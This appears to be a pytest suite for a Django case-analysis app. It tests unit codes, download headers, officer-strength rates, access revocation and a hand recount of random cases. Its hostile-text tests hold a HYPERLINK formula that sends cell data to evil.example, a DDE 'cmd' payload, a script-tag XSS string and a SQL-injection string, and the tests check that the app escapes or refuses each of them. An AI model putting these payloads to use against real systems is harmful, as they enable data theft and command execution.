# ruff: noqa: E501  (each test's docstring is one line: the attack and the safe behaviour)
"""The analysis of cases tried from outside (analysis/, cases/breakdowns.py, the queue's dimension filters): odd years
and unit codes, hostile unit names in the page and the files, the download's header and the password prompt, rates per
100 officers over strengths recorded at several levels, concurrent strength records, who may read it after losing a
role, and a random set of cases around midnight at month and year ends whose figures are counted again here, by hand,
and followed to the queue."""

import csv
import io
import random
import threading
from collections import Counter
from datetime import UTC, datetime, timedelta
from urllib.parse import parse_qs, urlsplit
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts import services as account_services
from accounts.models import Membership, OrgUnit
from analysis import figures, tables
from analysis.api.views import answer
from analysis.models import OfficerStrength
from analysis.services import record_officer_strength
from cases import services, summaries
from cases.choices import INJURY_RANK, CaseStatus, DutyScenario, IncidentKind, InjuryGrade, OfficerType, PlaceCategory
from cases.models import AccessLog, Case, InvolvedOfficer
from cases.workflow_actions import WORKFLOW_ACTIONS
from tests.analysis.dataset import analysis_dataset
from tests.api.conftest import token_client
from tests.conftest import reauthenticated
from tests.factories import case_in

PAGE = "/analysis/"
SH = ZoneInfo("Asia/Shanghai")


def recorded(unit: OrgUnit, regular: int, auxiliary: int, year: int = 2025) -> OfficerStrength:
    return OfficerStrength.objects.create(
        unit=unit, year=year, regular=regular, auxiliary=auxiliary, recorded_at="2025-01-01T00:00Z"
    )


# --- odd years and unit codes --------------------------------------------------------------------------------------


@pytest.mark.parametrize("year", ["0", "00", "-0"])
def test_year_zero_is_refused_not_read_as_this_year(client, world, year):
    """?year=0 on the page and the downloads: a 400 like every other year outside 2015..this year, never this year's figures under another name."""
    analysis_dataset(world)
    client.force_login(world.county_supervisor)
    response = client.get(PAGE, {"unit": world.county.code, "year": year})
    assert response.status_code == 400
    assert "analysis" not in response.context
    assert list(response.context["form"].errors) == ["year"]
    reauthenticated(client)
    for url in (
        f"/analysis/file/xlsx/?unit={world.county.code}&year={year}",
        f"/analysis/file/csv/?unit={world.county.code}&year={year}&table=months",
    ):
        refused = client.get(url)
        assert refused.status_code == 400
        assert refused.content == b"The export request was not valid."
    assert not AccessLog.objects.filter(object_ref__startswith="analysis").exists()


@pytest.fixture
def odd_unit(request, world) -> OrgUnit:
    """A station below the county whose code holds characters a header or a URL reads. The service refuses such codes
    now (accounts/services.py ``UNIT_CODE``); a unit from before, or imported, may still hold one: written directly."""
    county = world.county
    return OrgUnit.objects.create(
        code=request.param,
        name="北山警务站",
        level="station",
        parent=county,
        path=f"{county.path}{request.param}/",
        depth=county.depth + 1,
    )


@pytest.mark.parametrize(
    ("odd_unit", "disposition"),
    [
        ('33"01', 'attachment; filename="rightsguard-analysis-33\\"01-2025-units.csv"'),
        ("北山01", "attachment; filename*=utf-8''rightsguard-analysis-%E5%8C%97%E5%B1%B101-2025-units.csv"),
        ("33\n01", "attachment; filename*=utf-8''rightsguard-analysis-33%0A01-2025-units.csv"),
        ("33\\0;x=1", 'attachment; filename="rightsguard-analysis-33\\\\0;x=1-2025-units.csv"'),
    ],
    indirect=["odd_unit"],
)
def test_a_unit_code_with_quotes_line_breaks_or_chinese_gives_a_well_formed_download_header(
    client, world, odd_unit, disposition
):
    """The file name carries the unit's code: a quote, a backslash, a line break or Chinese in it is escaped or percent-encoded (RFC 6266), never a broken header or a 500."""
    client.force_login(world.county_supervisor)
    reauthenticated(client)
    client.raise_request_exception = False
    response = client.get("/analysis/file/csv/", {"unit": odd_unit.code, "year": 2025, "table": "units"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == disposition
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1] == ["Unit", f"北山警务站 ({odd_unit.code})"]


@pytest.mark.parametrize("odd_unit", ["33&year=2016", "3301#x", "33 01+"], indirect=True)
def test_the_password_prompt_leads_back_to_the_unit_asked_for(client, world, odd_unit):
    """A download before the password is confirmed sends to the password page and back to the analysis of the same unit and year, whatever its code holds."""
    client.force_login(world.county_supervisor)
    response = client.get("/analysis/file/xlsx/", {"unit": odd_unit.code, "year": 2025})
    assert response.status_code == 302
    back = parse_qs(urlsplit(response["Location"]).query)["next"][0]
    assert urlsplit(back).path == PAGE
    assert parse_qs(urlsplit(back).query) == {"unit": [odd_unit.code], "year": ["2025"]}
    assert client.get(back).context["unit"] == odd_unit


@pytest.mark.parametrize(
    "params",
    [
        {"unit": "%"},
        {"unit": "_"},
        {"unit": "\\"},
        {"unit": "3301%"},
        {"unit": "33010_"},
        {"unit": "' OR 1=1 --"},
        {"unit": "北山派出所"},
        {"unit": "x" * 12},
    ],
)
def test_unit_codes_with_metacharacters_are_no_unit(client, world, params):
    """LIKE and regex metacharacters, quotes and unicode in ?unit= match no unit: a 404, not another unit's figures."""
    client.force_login(world.ministry_supervisor)
    assert client.get(PAGE, {**params, "year": 2025}).status_code == 404
    reauthenticated(client)
    assert client.get("/analysis/file/xlsx/", {**params, "year": 2025}).status_code == 404


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("unit=" + "3" * 13, "unit"),
        ("year=9999", "year"),
        ("year=-2025", "year"),
        ("year=2025x", "year"),
        ("year=2025&year=1990", "year"),
        ("unit=330106%00", "unit"),
    ],
)
def test_odd_parameters_are_a_400_beside_their_field(client, world, query, field):
    """Over-long codes, years out of range or not numbers, the last of repeated years, a NUL byte: 400 naming the field on the page, a plain 400 for the file."""
    client.force_login(world.county_supervisor)
    response = client.get(f"{PAGE}?{query}")
    assert response.status_code == 400
    assert list(response.context["form"].errors) == [field]
    reauthenticated(client)
    assert client.get(f"/analysis/file/xlsx/?{query}").status_code == 400


# --- hostile text in the outputs -----------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")'
COMMAND = '+cmd|"/c calc"!A0'
SCRIPT = "<script>alert(1)</script>"


def test_hostile_unit_names_are_text_in_the_page_the_api_the_csv_and_the_xlsx(client, world):
    """Unit names renamed through the admin to a formula, a command and a script: escaped in the page, quoted in the CSV, text cells in the XLSX, as recorded in the API."""
    analysis_dataset(world)
    account_services.rename_org_unit(unit=world.station, name=FORMULA, name_en="")
    account_services.rename_org_unit(unit=world.other_station, name="灵隐派出所", name_en=SCRIPT)
    account_services.rename_org_unit(unit=world.county, name=COMMAND, name_en="")
    client.force_login(world.county_supervisor)
    body = client.get(PAGE, {"unit": world.county.code, "year": 2025}).content.decode()
    assert SCRIPT not in body
    assert "&lt;script&gt;alert(1)&lt;/script&gt; (330106002)" in body
    reauthenticated(client)
    csv_file = client.get("/analysis/file/csv/", {"unit": world.county.code, "year": 2025, "table": "units"})
    rows = list(csv.reader(io.StringIO(csv_file.content.decode("utf-8-sig"))))
    assert rows[1] == ["Unit", f"'{COMMAND} (330106)"]
    assert rows[6][0] == f"'{FORMULA} (330106001)"
    assert rows[7][0] == f"{SCRIPT} (330106002)"
    workbook = openpyxl.load_workbook(
        io.BytesIO(client.get("/analysis/file/xlsx/", {"unit": world.county.code, "year": 2025}).content)
    )
    sheet = workbook.worksheets[2]
    assert sheet["A2"].value == f"{COMMAND} (330106) · 2025"
    assert sheet["A5"].value == f"{FORMULA} (330106001)"
    formulas = [c.coordinate for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    api = token_client(world.county_supervisor).get("/api/v1/analysis/", {"unit": world.county.pk, "year": 2025})
    assert [r["unit"]["name"] for r in api.json()["sub_units"]] == [FORMULA, "灵隐派出所"]


# --- rates per 100 officers ----------------------------------------------------------------------------------------


def test_strengths_recorded_at_several_levels_are_counted_once(world):
    """The county records 50 officers and its first station 25 of them: the city's county row and total say 50, not 75; the county's station rows 25 and none."""
    analysis_dataset(world)
    recorded(world.county, 40, 10)
    recorded(world.station, 20, 5)
    recorded(world.sibling_station, 7, 0)  # another province: never in Zhejiang's figures
    city = figures.analyse(unit=world.city, year=2025)
    assert [(r.unit.code, r.strength) for r in city.rows] == [("330106", figures.Strength(40, 10))]
    assert city.total.strength == figures.Strength(40, 10)
    assert city.total.cases_per_100 == 6.0
    county = figures.analyse(unit=world.county, year=2025)
    assert [(r.unit.code, r.strength) for r in county.rows] == [
        ("330106001", figures.Strength(20, 5)),
        ("330106002", None),
    ]
    recorded(world.county, 0, 0, year=2024)  # zero officers: no rate, no division by zero
    empty = figures.analyse(unit=world.county, year=2024)
    assert (empty.total.strength, empty.total.cases_per_100, empty.total.injured_per_100) == (
        figures.Strength(0, 0),
        None,
        None,
    )


def test_a_rate_per_100_officers_divides_only_the_cases_of_the_officers_counted(world):
    """Only the first station recorded its strength (25): the county's and the ministry's rates are not their every case over those 25 officers."""
    analysis_dataset(world)
    recorded(world.station, 20, 5)
    county = figures.analyse(unit=world.county, year=2025)
    ministry = figures.analyse(unit=world.ministry, year=2025)
    assert (county.total.cases, ministry.total.cases) == (3, 4)
    # The county's other station and the sibling province recorded nothing: no rate for the county or the ministry,
    # the station's own 2 cases over its 25 officers.
    assert county.total.cases_per_100 is None
    assert ministry.total.cases_per_100 is None
    assert {r.unit.code: r.cases_per_100 for r in county.rows} == {
        world.station.code: 8.0,
        world.other_station.code: None,
    }


@pytest.mark.django_db(transaction=True)
def test_concurrent_first_records_of_one_units_year_keep_one_and_raise_nothing(postgres_only, world):
    """Eight administrators record the station's 2025 strength at once, none recorded yet: one record, the last figures, no IntegrityError (the admin's 500)."""
    count = 8
    barrier = threading.Barrier(count)
    results: list = [None] * count

    def record(i: int) -> None:
        try:
            barrier.wait(timeout=60)
            results[i] = record_officer_strength(
                unit=world.station, year=2025, regular=100 + i, auxiliary=i, by=world.admin
            ).pk
        except Exception as exc:
            results[i] = exc
        finally:
            connection.close()

    threads = [threading.Thread(target=record, args=(i,)) for i in range(count)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert [r for r in results if isinstance(r, Exception)] == []
    assert len(set(results)) == 1
    only = OfficerStrength.objects.get()
    assert (only.unit, only.year, only.regular - 100) == (world.station, 2025, only.auxiliary)


# --- who may read it ----------------------------------------------------------------------------------------------


def test_a_revoked_membership_or_a_deactivated_account_reads_nothing_more(world):
    """The county supervisor loses their membership, the city supervisor their account: the page, the file and the API refuse them on the next request, and nothing is logged as exported."""
    analysis_dataset(world)
    revoked, browser = Client(), Client()
    revoked.force_login(world.county_supervisor)
    reauthenticated(revoked)
    api = token_client(world.county_supervisor)
    assert revoked.get(PAGE, {"year": 2025}).status_code == 200
    assert api.get("/api/v1/analysis/", {"year": 2025}).status_code == 200
    account_services.revoke_membership(membership=Membership.objects.get(user=world.county_supervisor))
    assert revoked.get(PAGE, {"year": 2025}).status_code == 403
    assert revoked.get(f"/analysis/file/xlsx/?unit={world.county.code}&year=2025").status_code == 403
    assert api.get("/api/v1/analysis/", {"year": 2025}).status_code == 401
    browser.force_login(world.supervisor)
    reauthenticated(browser)
    city_api = token_client(world.supervisor)
    account_services.deactivate_user(user=world.supervisor)
    response = browser.get(f"/analysis/file/xlsx/?unit={world.city.code}&year=2025")
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))
    assert city_api.get("/api/v1/analysis/", {"year": 2025}).status_code == 401
    assert not AccessLog.objects.filter(object_ref__startswith="analysis").exists()


def test_the_county_page_reads_a_fixed_number_of_queries_however_many_stations(
    client, world, django_assert_max_num_queries
):
    """Two stations, then forty more, each with a recorded strength: the county page's queries do not grow with the rows (no query per sub-unit)."""
    analysis_dataset(world)
    client.force_login(world.county_supervisor)
    with CaptureQueriesContext(connection) as few:
        assert client.get(PAGE, {"unit": world.county.code, "year": 2025}).status_code == 200
    # The session and the reader, the two live counts (each in a savepoint that sets its memory), the officers, the
    # strengths and the unit tree, the handling figures, the picker: a fixed number.
    assert len(few.captured_queries) <= 24
    for i in range(40):
        station = account_services.create_org_unit(
            code=f"330106{100 + i}", name=f"警务站{i}", level="station", parent=world.county
        )
        recorded(station, 10 + i, i)
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = client.get(PAGE, {"unit": world.county.code, "year": 2025})
    assert response.status_code == 200
    assert len(response.context["analysis"].rows) == 42


# --- a random set around midnight, counted again by hand -----------------------------------------------------------

# Submission moments on both sides of local midnight (Shanghai, UTC+8) at the ends of months and years.
EDGES = [
    datetime(2024, 12, 31, 15, 59, 59, tzinfo=UTC),  # 2024-12-31 23:59:59 local
    datetime(2024, 12, 31, 16, 0, tzinfo=UTC),  # 2025-01-01 00:00 local
    datetime(2025, 1, 31, 15, 59, 59, tzinfo=UTC),  # 2025-01-31 23:59:59 local
    datetime(2025, 1, 31, 16, 0, tzinfo=UTC),  # 2025-02-01 00:00 local
    datetime(2025, 6, 30, 16, 0, tzinfo=UTC),  # 2025-07-01 00:00 local
    datetime(2025, 12, 31, 15, 59, 59, tzinfo=UTC),  # 2025-12-31 23:59:59 local
    datetime(2025, 12, 31, 16, 0, tzinfo=UTC),  # 2026-01-01 00:00 local
    datetime(2024, 2, 29, 16, 30, tzinfo=UTC),  # 2024-03-01 00:30 local
]
STATUSES = [CaseStatus.INTAKE, CaseStatus.REJECTED, CaseStatus.WITHDRAWN, CaseStatus.SUPERVISION]


def _random_set(world, seed: int) -> list[Case]:
    """Fourteen cases through the services (some with injured officers, one withdrawn after submission, two drafts),
    then moved by a data fix to random units, facts and edge moments, and the summaries repaired as a data fix must."""
    rng = random.Random(seed)
    units = [world.station, world.other_station, world.county, world.city, world.sibling_station]
    cases = [case_in(world, CaseStatus.INTAKE) for _ in range(14)]
    for case in cases[:5]:
        for injury in rng.sample([InjuryGrade.NONE, InjuryGrade.SLIGHT, InjuryGrade.MINOR_2, InjuryGrade.SERIOUS_1], 2):
            services.add_involved_officer(
                case=case, by=world.supervisor, name="李警官", officer_type=OfficerType.AUXILIARY, injury=injury
            )
    withdrawn = WORKFLOW_ACTIONS["withdraw"].service(
        case=cases[5], by=world.officer, expected_version=None, reason="Filed by mistake"
    )
    assert withdrawn.status == CaseStatus.WITHDRAWN
    drafts = [case_in(world, CaseStatus.DRAFT), case_in(world, CaseStatus.DRAFT)]
    for case in cases:
        unit = rng.choice(units)
        submitted = rng.choice(EDGES)
        Case.objects.filter(pk=case.pk).update(
            unit=unit,
            unit_path=unit.path,
            submitted_at=submitted,
            status=CaseStatus.WITHDRAWN if case.pk == withdrawn.pk else rng.choice(STATUSES),
            kind=rng.choice(IncidentKind.values),
            duty_scenario=rng.choice(["", *DutyScenario.values]),
            place_category=rng.choice(["", *PlaceCategory.values]),
            occurred_at=rng.choice([None, submitted - timedelta(minutes=rng.randrange(3 * 24 * 60))]),
        )
    Case.objects.filter(pk__in=[d.pk for d in drafts]).update(unit=world.county, unit_path=world.county.path)
    assert summaries.reconcile().mismatches  # the move went around the services: the summaries do not follow
    summaries.reconcile(repair=True)
    assert summaries.reconcile().mismatches == []
    return list(Case.objects.filter(pk__in=[c.pk for c in cases]))


def _by_hand(unit: OrgUnit, year: int) -> dict:
    """The figures, counted here from the case rows with plain Python and local time."""
    counted = [
        c
        for c in Case.objects.filter(unit_path__startswith=unit.path).exclude(status=CaseStatus.DRAFT)
        if c.submitted_at is not None
    ]
    local = {c.pk: c.submitted_at.astimezone(SH) for c in counted}
    this = [c for c in counted if local[c.pk].year == year]
    injured = Counter(
        local[o.case_id].year
        for o in InvolvedOfficer.objects.filter(case__in=counted)
        if INJURY_RANK[o.injury] >= INJURY_RANK[InjuryGrade.MINOR_2]
    )

    def child(path: str) -> str:
        return "/" + "/".join([s for s in path.split("/") if s][: unit.depth + 2]) + "/"

    occurred = [c.occurred_at.astimezone(SH) for c in this if c.occurred_at]
    return {
        "months": {
            m: tuple(
                sum(1 for c in counted if (local[c.pk].year, local[c.pk].month) == (y, m)) for y in (year, year - 1)
            )
            for m in range(1, 13)
        },
        "years": {y: (sum(1 for c in counted if local[c.pk].year == y), injured[y]) for y in range(year - 4, year + 1)},
        "children": +Counter(child(c.unit_path) for c in this),
        "heat": Counter((t.isoweekday(), t.hour) for t in occurred),
        "heat_unknown": sum(1 for c in this if c.occurred_at is None),
        "place": dict(Counter(c.place_category for c in this)),
    }


@pytest.mark.parametrize(
    ("seed", "unit", "year", "reader"),
    [
        (11, "county", 2025, "county_supervisor"),
        (12, "province", 2025, "ministry_supervisor"),
        (13, "city", 2026, "supervisor"),
    ],
)
def test_a_random_set_around_midnight_counts_as_by_hand_and_every_figure_lists_its_cases(
    client, world, seed, unit, year, reader
):
    """Random cases submitted on both sides of local midnight at month and year ends: the analysis (live below the cities, the summaries above) counts what plain Python counts, each figure's queue lists that many cases, and the API and the CSV say the same."""
    _random_set(world, seed)
    org = getattr(world, unit)
    a = figures.analyse(unit=org, year=year)
    hand = _by_hand(org, year)
    assert a.months == hand["months"]
    assert a.years == hand["years"]
    assert {r.path: r.cases for r in a.rows if r.cases} == hand["children"]
    assert a.heat == hand["heat"]
    assert a.heat_unknown == hand["heat_unknown"]
    assert {code: now for code, (now, _b) in a.distributions["place"].items() if now} == hand["place"]
    assert a.years[year][0] == sum(hand["children"].values())
    client.force_login(getattr(world, reader))
    counted: dict[str, int] = {}
    checked = 0
    for grid in tables.grids(a):
        for row in grid.rows:
            for value, link, column in zip(row.values, row.links, grid.columns, strict=False):
                if not link or (not value and checked % 5):  # every figure that counts, and one zero in five
                    checked += 1
                    continue
                checked += 1
                if link not in counted:
                    response = client.get(link)
                    assert response.status_code == 200, link
                    counted[link] = response.context["page"].count
                if "injury" in parse_qs(urlsplit(link).query):
                    # Officers injured link to the cases with such an officer: at most as many cases as officers.
                    assert (counted[link] == 0) == (value == 0), (grid.key, row.label, column.title)
                    assert counted[link] <= value
                else:
                    assert counted[link] == value, (grid.key, row.label, column.title, link)
    assert len(counted) > 20
    reauthenticated(client)
    months_csv = client.get("/analysis/file/csv/", {"unit": org.code, "year": year, "table": "months"})
    rows = list(csv.reader(io.StringIO(months_csv.content.decode("utf-8-sig"))))
    assert [r[1:3] for r in rows[6:18]] == [[str(now), str(before)] for now, before in hand["months"].values()]
    api = token_client(getattr(world, reader)).get("/api/v1/analysis/", {"unit": org.pk, "year": year})
    assert api.json()["months"] == [
        {"month": m, "cases": now, "cases_previous_year": before} for m, (now, before) in hand["months"].items()
    ]
    assert api.json()["total"]["cases"] == answer(a)["total"]["cases"] == a.years[year][0]
